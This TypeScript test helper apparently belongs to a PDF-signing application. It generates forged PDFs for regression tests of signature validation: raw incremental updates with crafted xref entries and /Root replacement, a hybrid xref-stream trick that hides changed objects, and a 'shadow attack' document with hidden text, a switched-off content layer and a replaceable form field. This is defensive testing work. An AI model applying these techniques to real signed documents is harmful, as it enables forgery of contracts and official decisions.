// The attack corpus (issue 13): small PDFs built at test time from a signed protocol, one per published
// attack class — Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019: USF, ISA, SWA) and Mainka et
// al., "Shadow Attacks" (NDSS 2021: hide, replace, hide-and-replace) — plus the three forgeries found
// against Justera itself (new /Root, duplicate object number, widget /Rect overlay).
import { deflateSync } from 'node:zlib';
import { PDFArray, PDFDict, PDFDocument, PDFHexString, PDFName, PDFRef, PDFStream, PDFString, StandardFonts } from 'pdf-lib';
import { addEmptySignatureFields, keyObjectSigner, signPdf } from '../../../electron/services/signing';
import { readTrailer } from '../../../electron/services/signing/pdf-structure';
import { protocolFields } from './pdf';
import type { Identity } from './pki';

const latin1 = (b: Uint8Array): string => Buffer.from(b).toString('latin1');
const bytes = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, 'latin1'));
const concat = (...parts: (Uint8Array | string)[]): Uint8Array => new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p)))));

export interface RawObject {
  num: number;
  text: string;
}

export interface AppendOptions {
  /** Write no xref and no trailer: objects simply appended after %%EOF (ISA without xref). */
  noXref?: boolean;
  /** A different /Root for the new trailer. */
  root?: string;
  /** Extra xref entries "num offset" pointing wherever the attack wants. */
  entries?: { num: number; offset: number }[];
  /** Write the object bodies but leave these numbers out of the xref. */
  unlisted?: number[];
}

/** An incremental update written by hand, as an attacker would: any objects, any xref. */
export function appendRaw(pdf: Uint8Array, objects: RawObject[], o: AppendOptions = {}): Uint8Array {
  const t = readTrailer(pdf);
  let out = latin1(pdf);
  if (!out.endsWith('\n')) out += '\n';
  const listed: { num: number; offset: number }[] = [];
  for (const obj of objects) {
    const offset = out.length;
    out += `${obj.num} 0 obj\n${obj.text}\nendobj\n`;
    if (!o.unlisted?.includes(obj.num)) listed.push({ num: obj.num, offset });
  }
  if (o.noXref) return bytes(out);
  for (const e of o.entries ?? []) {
    const i = listed.findIndex((x) => x.num === e.num);
    if (i >= 0) listed.splice(i, 1);
    listed.push(e);
  }
  listed.sort((a, b) => a.num - b.num);
  const xrefAt = out.length;
  out += 'xref\n';
  for (const e of listed) out += `${e.num} 1\n${String(e.offset).padStart(10, '0')} 00000 n\r\n`;
  const size = Math.max(t.size, ...listed.map((e) => e.num + 1));
  const info = t.info ? ` /Info ${t.info.toString()}` : '';
  const id = t.id ? ` /ID [${t.id[0].toString()} ${t.id[1].toString()}]` : '';
  out += `trailer\n<< /Size ${size} /Root ${o.root ?? t.root.toString()}${info}${id} /Prev ${t.startxref} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return bytes(out);
}

/**
 * A hybrid update (xref table + /XRefStm) whose table lists only an object stream and the xref
 * stream; the hidden stream (Flate, PNG "Up" predictor) puts object `num` inside the object stream.
 * A reader that ignores /XRefStm, or object streams, misses the change.
 */
export function appendHybrid(pdf: Uint8Array, num: number, body: string): Uint8Array {
  const t = readTrailer(pdf);
  let out = latin1(pdf);
  if (!out.endsWith('\n')) out += '\n';
  const stmNum = t.size;
  const xrefNum = t.size + 1;
  const header = `${num} 0 `;
  const stmAt = out.length;
  out += `${stmNum} 0 obj\n<< /Type /ObjStm /N 1 /First ${header.length} /Length ${header.length + body.length} >>\nstream\n${header}${body}\nendstream\nendobj\n`;
  const row = Buffer.from([2, 2, (stmNum >> 8) & 0xff, stmNum & 0xff, 0]);
  const packed = deflateSync(row);
  const xrefStmAt = out.length;
  out += `${xrefNum} 0 obj\n<< /Type /XRef /Size ${xrefNum + 1} /W [1 2 1] /Index [${num} 1] /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >> /Length ${packed.length} >>\nstream\n`;
  out += packed.toString('latin1');
  out += '\nendstream\nendobj\n';
  const xrefAt = out.length;
  out += `xref\n${stmNum} 2\n${String(stmAt).padStart(10, '0')} 00000 n\r\n${String(xrefStmAt).padStart(10, '0')} 00000 n\r\n`;
  const info = t.info ? ` /Info ${t.info.toString()}` : '';
  out += `trailer\n<< /Size ${xrefNum + 1} /Root ${t.root.toString()}${info} /Prev ${t.startxref} /XRefStm ${xrefStmAt} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return bytes(out);
}

export async function load(pdf: Uint8Array): Promise<PDFDocument> {
  return PDFDocument.load(pdf, { updateMetadata: false });
}

export function serialise(obj: { toString(): string } | PDFStream): string {
  if (obj instanceof PDFStream) {
    const contents = Buffer.from(obj.getContents()).toString('latin1');
    return `${obj.dict.toString()}\nstream\n${contents}\nendstream`;
  }
  return obj.toString();
}

/** A plain content stream object body. */
export function contentStream(ops: string): string {
  return `<< /Length ${ops.length} >>\nstream\n${ops}\nendstream`;
}

export async function pageInfo(pdf: Uint8Array, index = 0): Promise<{ doc: PDFDocument; page: PDFRef; contents: PDFRef; font: PDFRef }> {
  const doc = await load(pdf);
  const p = doc.getPages()[index]!;
  const raw = p.node.get(PDFName.of('Contents'));
  const contents = (raw instanceof PDFArray ? raw.get(0) : raw) as PDFRef;
  const fonts = p.node.Resources()?.lookup(PDFName.of('Font'), PDFDict);
  const font = fonts?.values()[0] as PDFRef;
  return { doc, page: p.ref, contents, font };
}

export function fieldRef(doc: PDFDocument, name: string): PDFRef {
  const form = doc.catalog.lookup(PDFName.of('AcroForm'), PDFDict);
  const fields = form.lookup(PDFName.of('Fields'), PDFArray);
  for (const f of fields.asArray()) {
    const d = doc.context.lookup(f, PDFDict);
    const t = d.get(PDFName.of('T'));
    if ((t instanceof PDFString || t instanceof PDFHexString) && t.decodeText() === name) return f as PDFRef;
  }
  throw new Error(`no field ${name}`);
}

export const nextNumber = (pdf: Uint8Array): number => readTrailer(pdf).size;

export async function signAs(pdf: Uint8Array, id: Identity, ca: Identity, fieldName: string, extra: { signerName?: string; tsa?: { url: string } } = {}): Promise<Uint8Array> {
  return (
    await signPdf(pdf, {
      fieldName,
      role: 'Justerare',
      signer: keyObjectSigner(id.privateKey, [id.certDer, ca.certDer]),
      signingTime: new Date('2020-11-06T13:00:00Z'),
      ...extra,
    })
  ).pdf;
}

/** The protocol, but prepared for a shadow attack: hidden text, a text field, an optional-content layer. */
export async function makeShadowBase(): Promise<{ pdf: Uint8Array; overlay: number; blank: number; ocProps: number }> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.drawText('§ 20 Upphandling: leverantör Norrbottens Bygg AB', { x: 50, y: 750, size: 12, font });
  // Hidden under a white box (hide): the box is its own content stream.
  page.drawText('§ 20 Upphandling: leverantör Skuggbolaget AB', { x: 50, y: 700, size: 12, font });
  const overlay = doc.context.register(doc.context.flateStream('1 1 1 rg 40 690 400 25 re f'));
  const blank = doc.context.register(doc.context.flateStream('% tom'));
  page.node.addContentStream(overlay);
  // Optional content switched off (hide-and-replace): revealed by turning the layer on.
  const ocg = doc.context.register(doc.context.obj({ Type: 'OCG', Name: 'Dold' }));
  const ocProps = doc.context.register(doc.context.obj({ OCGs: [ocg], D: { OFF: [ocg] } }));
  doc.catalog.set(PDFName.of('OCProperties'), ocProps);
  const props = doc.context.obj({ oc1: ocg });
  page.node.Resources()?.set(PDFName.of('Properties'), props);
  const fontKey = page.node.Resources()?.lookup(PDFName.of('Font'), PDFDict)?.keys()[0]?.toString() ?? '/F1';
  page.node.addContentStream(doc.context.register(doc.context.flateStream(`/OC /oc1 BDC BT ${fontKey} 14 Tf 50 650 Td (Beslutet upphävs) Tj ET EMC`)));
  // A text field with a value (replace: form field values).
  const form = doc.getForm();
  const tf = form.createTextField('beslut');
  tf.setText('Bifall');
  tf.addToPage(page, { x: 50, y: 400, width: 200, height: 20 });
  const raw = await doc.save({ useObjectStreams: false });
  const pdf = await addEmptySignatureFields(
    raw,
    protocolFields.map((f) => ({ ...f, page: 0 })),
  );
  return { pdf, overlay: overlay.objectNumber, blank: blank.objectNumber, ocProps: ocProps.objectNumber };
}

export { latin1, bytes, concat };
